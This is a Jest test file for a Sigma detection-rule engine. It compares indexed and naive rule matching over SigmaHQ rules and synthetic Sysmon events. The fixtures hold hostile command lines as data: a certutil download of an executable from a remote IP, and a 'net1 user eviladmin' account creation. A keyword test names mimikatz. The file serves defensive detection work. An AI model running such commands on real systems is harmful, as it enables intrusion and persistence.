import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { generateEvents } from '../../differential/generate';
import { SigmaError } from '../errors';
import type { SigmaRule } from '../model';
import { parseSigmaFile } from '../parse';
import { applyPipelines } from '../pipeline';
import { expandPaths } from '../validate';
import { getPipeline } from '../pipelines';
import { CORPUS, ruleFrom } from '../test-support/rules';
import type { SigmaEvent } from './fieldpath';
import { RuleSet } from './ruleset';

const OWN_RULES = join(__dirname, '../../../rules');

const corpusFiles = expandPaths([`${CORPUS}/rules/windows/process_creation`, `${CORPUS}/rules/windows/network_connection`]);

const sysmon = (eventId: number, data: Record<string, unknown>): Record<string, unknown> => ({
  Event: { System: { EventID: eventId, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'ws-017.city.local' }, EventData: data },
});

const events = [
  sysmon(1, {
    Image: 'C:\\Windows\\System32\\certutil.exe',
    OriginalFileName: 'CertUtil.exe',
    CommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe',
    ParentImage: 'C:\\Windows\\System32\\cmd.exe',
    User: 'CITY\\bob',
  }),
  sysmon(1, {
    Image: 'C:\\Windows\\System32\\net1.exe',
    OriginalFileName: 'net1.exe',
    CommandLine: 'net1 user eviladmin P@ss1 /add',
    ParentImage: 'C:\\Windows\\System32\\net.exe',
    User: 'CITY\\bob',
  }),
  sysmon(1, {
    Image: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe',
    CommandLine: '"C:\\Program Files\\Mozilla Firefox\\firefox.exe"',
    ParentImage: 'C:\\Windows\\explorer.exe',
    User: 'CITY\\alice',
  }),
  sysmon(3, { Image: 'C:\\Windows\\System32\\certutil.exe', DestinationIp: '203.0.113.5', DestinationPort: 80, Initiated: 'true' }),
];

describe('RuleSet', () => {
  const indexed = new RuleSet({ pipelines: [getPipeline('windows')] });
  const naive = new RuleSet({ pipelines: [getPipeline('windows')], mode: 'naive' });
  const loaded = indexed.addFiles(corpusFiles);
  naive.addFiles(corpusFiles);

  test('loads every SigmaHQ process_creation and network_connection rule', () => {
    expect(loaded.rejected).toEqual([]);
    expect(indexed.size).toBe(loaded.loaded);
  });

  test('indexed matching (logsource routing + literal prefilter) finds exactly what naive evaluation finds', () => {
    for (const e of events) {
      const expected = naive
        .match(e)
        .map((m) => m.ruleId)
        .sort();
      expect(
        indexed
          .match(e)
          .map((m) => m.ruleId)
          .sort(),
      ).toEqual(expected);
      expect(
        indexed
          .match(e, {
            category: (e.Event as { System: { EventID: number } }).System.EventID === 1 ? 'process_creation' : 'network_connection',
            product: 'windows',
          })
          .map((m) => m.ruleId)
          .sort(),
      ).toEqual(expected);
    }
  });

  test('a certutil download is reported with title, level, tags and the fields that matched', () => {
    const hit = indexed.match(events[0] as Record<string, unknown>).find((m) => m.title === 'Suspicious Download Via Certutil.EXE');
    expect(hit).toMatchObject({ level: 'medium', tags: expect.arrayContaining(['attack.t1105']) });
    expect(hit?.matchedFields.sort()).toEqual([
      'Event.EventData.CommandLine',
      'Event.EventData.Image',
      'Event.EventData.OriginalFileName',
      'Event.System.Channel',
      'Event.System.EventID',
    ]);
  });

  test('a benign browser start matches no high or critical rule', () => {
    expect(indexed.match(events[2] as Record<string, unknown>).filter((m) => m.level === 'high' || m.level === 'critical')).toEqual([]);
  });

  test('logsource routing keeps network rules away from process events', () => {
    const routed = indexed.match(events[0] as Record<string, unknown>, { category: 'network_connection', product: 'windows' });
    expect(routed).toEqual([]);
  });
});

/** Nested objects turned into flat dotted keys (`{"a.b": 1}`), which the matcher resolves the same way. */
function flatten(value: unknown, prefix = '', out: Record<string, unknown> = {}): Record<string, unknown> {
  if (value !== null && typeof value === 'object' && !Array.isArray(value))
    for (const [k, v] of Object.entries(value)) flatten(v, prefix ? `${prefix}.${k}` : k, out);
  else out[prefix] = value;
  return out;
}

/** The detection rules of the files (parsed once for both rule sets); files that do not parse are left out. */
function parsedRules(files: string[]): SigmaRule[] {
  return files.flatMap((f) => {
    try {
      return parseSigmaFile(f).documents.filter((d): d is SigmaRule => d.kind === 'rule');
    } catch (e) {
      if (!(e instanceof SigmaError)) throw e;
      return [];
    }
  });
}

describe('the prefilter (literal and field clauses) never changes what matches', () => {
  const corpusDirs = (dirs: string[]): string[] => expandPaths(dirs.map((d) => `${CORPUS}/${d}`));

  test.each([
    ['windows', corpusDirs(['rules', 'rules-emerging-threats', 'rules-threat-hunting']), 40],
    ['ecs', corpusDirs(['rules/windows/process_creation', 'rules/linux', 'rules/web']), 10],
  ])(
    'SigmaHQ rules, %s shape: indexed matching returns exactly what naive evaluation returns',
    (name, all, every) => {
      const pipelines = [getPipeline(name)];
      const indexed = new RuleSet({ pipelines });
      const naive = new RuleSet({ pipelines, mode: 'naive' });
      for (const rule of parsedRules(all))
        try {
          indexed.add(rule);
          naive.add(rule);
        } catch (e) {
          if (!(e instanceof SigmaError)) throw e;
        }
      expect(indexed.size).toBeGreaterThan(all.length / 2);
      // Events generated from some of the rules (hits, near misses, filters tripped), nested and
      // flat, plus hand-written ones; each event meets every rule of the set in both modes.
      const generated = indexed
        .rules()
        .filter((_, i) => i % every === 0)
        .flatMap((rule) => {
          try {
            return generateEvents(applyPipelines(rule, pipelines), 2);
          } catch {
            return [];
          }
        });
      const corpus = [...events, ...generated, ...generated.map((e) => flatten(e))];
      let hits = 0;
      for (const e of corpus) {
        const expected = naive.match(e);
        hits += expected.length;
        expect(indexed.match(e)).toEqual(expected);
        expect(indexed.candidateCount(e)).toBeGreaterThanOrEqual(expected.length);
      }
      expect(hits).toBeGreaterThan(300);
    },
    120_000,
  );

  test("CitySOC's own rules and their samples: indexed and naive agree", () => {
    const files = expandPaths([OWN_RULES]);
    const pipelines = [getPipeline('citysoc')];
    const indexed = new RuleSet({ pipelines });
    const naive = new RuleSet({ pipelines, mode: 'naive' });
    indexed.addFiles(files);
    naive.addFiles(files);
    const samples = files.flatMap((f) => {
      const s = JSON.parse(readFileSync(f.replace(/\.yml$/, '.samples.json'), 'utf8')) as { positive: SigmaEvent[]; negative: SigmaEvent[] };
      return [...s.positive, ...s.negative];
    });
    let hits = 0;
    for (const e of [...samples, ...samples.map((s) => flatten(s))]) {
      const expected = naive.match(e);
      hits += expected.length;
      expect(indexed.match(e)).toEqual(expected);
    }
    expect(hits).toBeGreaterThan(40);
  });
});

describe('the prefilter searches the fields text clauses name, and keywords everywhere', () => {
  const set = (detection: string): RuleSet => {
    const s = new RuleSet();
    s.add(ruleFrom(detection, 'category: test'));
    return s;
  };

  test("a rule's literal in a field the rule does not read makes it no candidate; in its field, nested or flat-dotted, it does", () => {
    const s = set(`    selection:\n        Process.Image|endswith: '\\evil.exe'\n    condition: selection`);
    const elsewhere = { Process: { Image: 'C:\\good.exe', CommandLine: 'C:\\evil.exe' } };
    expect(s.candidateCount(elsewhere)).toBe(0);
    expect(s.match(elsewhere)).toEqual([]);
    for (const event of [{ Process: { Image: 'C:\\EVIL.exe' } }, { 'Process.Image': 'C:\\evil.exe' }, { Process: [{ Image: ['x', 'C:\\evil.exe'] }] }]) {
      expect(s.candidateCount(event)).toBe(1);
      expect(s.match(event).map((m) => m.title)).toEqual(['Test rule']);
    }
  });

  test('a keyword literal is found in any field of the event', () => {
    const s = set(`    keywords:\n        - 'mimikatz'\n    condition: keywords`);
    const event = { Deep: { Inside: ['nothing', 'ran Mimikatz here'] }, Other: 7 };
    expect(s.candidateCount(event)).toBe(1);
    expect(s.match(event).map((m) => m.title)).toEqual(['Test rule']);
    expect(s.candidateCount({ Deep: { Inside: 'nothing' } })).toBe(0);
  });
});
